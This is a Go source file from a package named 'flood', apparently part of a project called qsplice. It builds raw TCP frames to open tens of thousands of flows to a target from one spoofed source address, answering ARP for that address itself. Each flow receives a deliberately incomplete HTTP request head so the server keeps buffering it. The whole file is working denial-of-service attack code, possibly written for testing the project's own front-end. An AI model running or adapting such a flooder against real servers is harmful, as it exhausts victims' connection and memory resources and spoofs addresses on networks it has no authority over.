package flood

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"net/netip"
	"slices"

	"github.com/qsplice/qsplice/splice/wire"
)

// MaxHeadLen bounds the partial request head sent on each flow: it rides
// in the final ACK of the handshake, one segment.
const MaxHeadLen = 1400

// DefaultHead is a request head without its final blank line: the
// front-end must keep buffering it, waiting for the rest.
const DefaultHead = "GET /data/1K HTTP/1.1\r\nHost: attacker.example\r\nUser-Agent: qsplice-flood\r\n"

// Heads drives ModeHeads: one flow per (target port, source port) pair,
// all from one source address. NextSYN opens the next flow; Input reads
// what the target answers, completes the handshake with the partial head
// and classifies the rest. It is not safe for concurrent use.
type Heads struct {
	srcMAC, dstMAC wire.MAC
	source, target wire.IP4
	ports          []uint16
	head           []byte
	rng            *rand.Rand
	flows          []headFlow // index: port index << 16 | source port
	started, limit int
	pkt            wire.Packet
}

// headFlow is one flow's state: its ISN and what has happened to it.
type headFlow struct {
	isn  uint32
	seen uint8 // flowSynSent | flowSynAcked | ...
}

const (
	flowSynSent uint8 = 1 << iota
	flowSynAcked
	flowHeadAcked
	flowReset
	flowServerData
)

// HeadsConfig says whom Heads attacks and from where.
type HeadsConfig struct {
	SrcMAC, DstMAC wire.MAC
	Source         netip.Addr // the one source address (not owned by this host's kernel)
	Target         netip.Addr
	Ports          []uint16
	Head           []byte // the partial head; nil: DefaultHead
	Seed           uint64
}

// NewHeads checks the configuration.
func NewHeads(c HeadsConfig) (*Heads, error) {
	if !c.Source.Is4() || !c.Target.Is4() {
		return nil, fmt.Errorf("flood: source %v and target %v must be IPv4 addresses", c.Source, c.Target)
	}
	if len(c.Ports) == 0 {
		return nil, errors.New("flood: no target port")
	}
	head := c.Head
	if head == nil {
		head = []byte(DefaultHead)
	}
	if len(head) == 0 || len(head) > MaxHeadLen {
		return nil, fmt.Errorf("flood: head of %d bytes, want 1..%d", len(head), MaxHeadLen)
	}
	h := &Heads{
		srcMAC: c.SrcMAC, dstMAC: c.DstMAC, source: wire.IP4From(c.Source), target: wire.IP4From(c.Target),
		ports: slices.Clone(c.Ports), head: slices.Clone(head),
		rng:   rand.New(rand.NewPCG(c.Seed, c.Seed^0x6a09e667f3bcc909)),
		flows: make([]headFlow, len(c.Ports)<<16),
	}
	h.limit = len(c.Ports) * (65536 - FirstPort)
	return h, nil
}

// Capacity is how many flows one source can open to the target's ports:
// one per source port from FirstPort up, per target port.
func (h *Heads) Capacity() int { return h.limit }

// Started is how many flows NextSYN has opened.
func (h *Heads) Started() int { return h.started }

// NextSYN writes the SYN of the next flow into b (at least MaxFrameLen
// bytes) and returns its length, or 0 once every flow has been opened.
// Flows go round the target ports, so 100,000 fit in two of them.
func (h *Heads) NextSYN(b []byte) int {
	if h.started >= h.limit {
		return 0
	}
	pi := h.started % len(h.ports)
	sport := uint16(FirstPort + h.started/len(h.ports))
	h.started++
	f := &h.flows[pi<<16|int(sport)]
	f.isn, f.seen = h.rng.Uint32(), flowSynSent
	o := synOptions(false, 0)
	var opts [20]byte
	on := o.Encode(opts[:])
	tf := wire.TCPFrame{
		SrcMAC: h.srcMAC, DstMAC: h.dstMAC, Src: h.source, Dst: h.target,
		SrcPort: sport, DstPort: h.ports[pi], Seq: wire.Seq(f.isn), Flags: wire.TCPFlagSYN,
		Window: 64240, IPID: uint16(h.rng.Uint32()), Options: opts[:on],
	}
	return tf.Encode(b)
}

// Input reads one frame. If it calls for an answer (the final ACK with
// the head after a SYN-ACK, an ARP reply for the source address), the
// answer is written into reply (at least MaxFrameLen bytes) and its
// length returned. The event says what the frame meant.
func (h *Heads) Input(frame, reply []byte) (int, Event) {
	p := &h.pkt
	if wire.Parse(frame, p) != nil {
		return 0, EvNone
	}
	if p.Kind == wire.KindARP {
		a := p.ARP
		if a.Op() != wire.ARPRequest || a.TargetIP() != h.source {
			return 0, EvNone
		}
		return wire.EncodeARP(reply, wire.ARPReply, h.srcMAC, h.source, a.SenderMAC(), a.SenderIP(), a.SenderMAC()), EvARP
	}
	if p.Kind != wire.KindTCP || p.IP.Src() != h.target || p.IP.Dst() != h.source {
		return 0, EvNone
	}
	t := p.TCP
	pi := slices.Index(h.ports, t.SrcPort())
	if pi < 0 {
		return 0, EvNone
	}
	f := &h.flows[pi<<16|int(t.DstPort())]
	if f.seen&flowSynSent == 0 {
		return 0, EvNone // not a flow of ours
	}
	switch {
	case t.Has(wire.TCPFlagRST):
		if f.seen&flowReset != 0 {
			return 0, EvNone
		}
		f.seen |= flowReset
		return 0, EvReset
	case t.Has(wire.TCPFlagSYN | wire.TCPFlagACK):
		if uint32(t.Ack()) != f.isn+1 || f.seen&flowReset != 0 {
			return 0, EvNone
		}
		ev := EvSynAck
		if f.seen&flowSynAcked != 0 {
			ev = EvSynAckAgain // our final ACK was lost, or is late: send it again
		}
		f.seen |= flowSynAcked
		tf := wire.TCPFrame{
			SrcMAC: h.srcMAC, DstMAC: h.dstMAC, Src: h.source, Dst: h.target,
			SrcPort: t.DstPort(), DstPort: t.SrcPort(),
			Seq: wire.Seq(f.isn + 1), Ack: t.Seq() + 1, Flags: wire.TCPFlagACK | wire.TCPFlagPSH,
			Window: 502, IPID: uint16(h.rng.Uint32()), Payload: h.head,
		}
		return tf.Encode(reply), ev
	case len(t.Payload()) > 0 || t.Has(wire.TCPFlagFIN):
		if f.seen&flowServerData != 0 {
			return 0, EvNone
		}
		f.seen |= flowServerData
		return 0, EvServerData
	case t.Has(wire.TCPFlagACK) && uint32(t.Ack()) == f.isn+1+uint32(len(h.head)):
		if f.seen&flowHeadAcked != 0 {
			return 0, EvNone
		}
		f.seen |= flowHeadAcked
		return 0, EvHeadAcked
	}
	return 0, EvNone
}
